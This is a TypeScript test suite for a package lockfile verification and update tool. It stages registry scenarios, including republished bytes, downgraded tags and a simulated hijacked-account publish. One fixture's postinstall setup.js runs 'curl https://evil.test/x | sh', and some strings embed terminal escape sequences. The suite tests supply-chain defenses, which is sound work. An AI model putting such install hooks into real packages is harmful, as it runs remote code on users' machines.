import assert from "node:assert/strict";
import { readdirSync } from "node:fs";
import { suite, test } from "node:test";

import { Stage } from "../support/stage.ts";

interface Scenario {
  readonly title: string;
  readonly exitCode: number;
  /** What publishers, registries and users do after the lock. */
  readonly does: (stage: Stage) => unknown;
  readonly args?: readonly string[];
  /** What the entry asks for. */
  readonly spec?: string;
}

const HOUR_MS = 3_600_000;
const hoursAgo = (hours: number): string => new Date(Date.now() - hours * HOUR_MS).toISOString();
const ONLINE = ["verify", "--online"];

function publishGull(stage: Stage, version: string, how: { at?: string; by?: string } = {}): void {
  stage.registry.publish(
    {
      name: "gull",
      version,
      bin: "gull.js",
      dependencies: { wave: "2", shell: "^3.0.0" },
    },
    { "gull.js": "#!/usr/bin/env node\nfly(higher);\n" },
    how,
  );
}

/** What a thief of a publishing account would put out: in a dependency, with a script. */
function publishStolen(stage: Stage): void {
  const at = hoursAgo(24 * 30);
  stage.registry.publish(
    { name: "wave", version: "2.1.0", bin: "cli.js", scripts: { postinstall: "node setup.js" } },
    {
      "cli.js": "#!/usr/bin/env node\nconsole.log(1);\nconsole.log(2);\n",
      "setup.js":
        'require("child_process").execSync("curl https://evil.test/x | sh");\n\u001b[2J\n',
    },
    { at, by: "stranger" },
  );
  publishGull(stage, "1.1.0", { at });
}

/** Each has a registry of its own, which it changes for good. */
const scenarios: Record<string, Scenario> = {
  "online-unchanged": {
    title: "nothing moved: verified, floating or not",
    exitCode: 0,
    spec: "gull",
    args: ONLINE,
    does: () => undefined,
  },
  "online-unvetted-update": {
    title: "a floating entry whose registry has a newer version names both, and what comes with it",
    exitCode: 1,
    spec: "gull",
    args: ONLINE,
    does: (stage) => {
      stage.registry.publish({ name: "wave", version: "2.1.0", bin: "cli.js" }, { "cli.js": "" });
      publishGull(stage, "1.1.0", { at: hoursAgo(6), by: "stranger" });
    },
  },
  "online-newer-version": {
    title: "a newer version beside an exact entry is told and changes no verdict",
    exitCode: 0,
    args: ONLINE,
    does: (stage) => publishGull(stage, "1.1.0"),
  },
  "online-downgraded-tag": {
    title: "a tag that was set back",
    exitCode: 1,
    spec: "gull",
    args: ONLINE,
    does: ({ registry }) => {
      registry.publish({ name: "gull", version: "0.9.0", bin: "gull.js" }, { "gull.js": "" });
    },
  },
  "online-other-bytes": {
    title: "other bytes under the pinned version, and its authors' word against it",
    exitCode: 1,
    args: ONLINE,
    does: ({ registry }) => {
      registry.republish("gull@1.0.0", { "gull.js": "evil();\n" });
      registry.deprecate("gull@1.0.0", "has a hole\u001b[2J");
    },
  },
  "online-unpublished": {
    title: "a version that was taken away",
    exitCode: 1,
    args: ONLINE,
    does: (stage) => {
      publishGull(stage, "1.1.0");
      stage.registry.unpublish("gull@1.0.0");
    },
  },
  "online-silent": {
    title: "a registry that does not answer leaves it open",
    exitCode: 3,
    spec: "gull",
    args: ONLINE,
    does: ({ registry }) => registry.fail("reset"),
  },
  "update-check": {
    title: "the new postinstall of a transitive package stands first",
    exitCode: 1,
    spec: "gull",
    args: ["update", "gull", "--check"],
    does: publishStolen,
  },
  "update-source": {
    title: "the changed lines, the most suspicious first",
    exitCode: 1,
    spec: "gull",
    args: ["update", "gull", "--check", "--source"],
    does: publishStolen,
  },
  "update-refused": {
    title: "--yes takes no install script that nobody named",
    exitCode: 3,
    spec: "gull",
    args: ["update", "gull", "--yes"],
    does: publishStolen,
  },
  "update-yes": {
    title: "an update is written, and what remains to be done is said",
    exitCode: 0,
    args: ["update", "gull", "--yes"],
    does: (stage) => publishGull(stage, "1.1.0"),
  },
  "update-blocked": {
    title: "what a policy denies blocks, and the line that decided is named",
    exitCode: 3,
    spec: "gull",
    args: ["update", "gull", "--yes"],
    does: (stage) => {
      stage.writes(
        ".config/pinfold/lockfiles/policy.json",
        '{\n  "policyVersion": 1,\n  "installScripts": "deny"\n}\n',
      );
      publishStolen(stage);
    },
  },
  "update-held-back": {
    title: "a version that is too young is named and not taken",
    exitCode: 0,
    spec: "gull",
    args: ["update", "--check"],
    does: (stage) => publishGull(stage, "1.1.0", { at: hoursAgo(6) }),
  },
};

suite("scenarios of updates", () => {
  for (const [name, { title, exitCode, does, args = [], spec = "gull@1.0.0" }] of Object.entries(
    scenarios,
  ))
    test(`${name}: ${title}`, async () => {
      await using stage = await Stage.set(spec);
      await does(stage);
      await stage.plays(`updates/${name}`, exitCode, args);
    });

  test("every folder here belongs to a scenario", () => {
    const folders = readdirSync(new URL("updates", import.meta.url));
    assert.deepEqual(folders.toSorted(), Object.keys(scenarios).toSorted());
  });
});
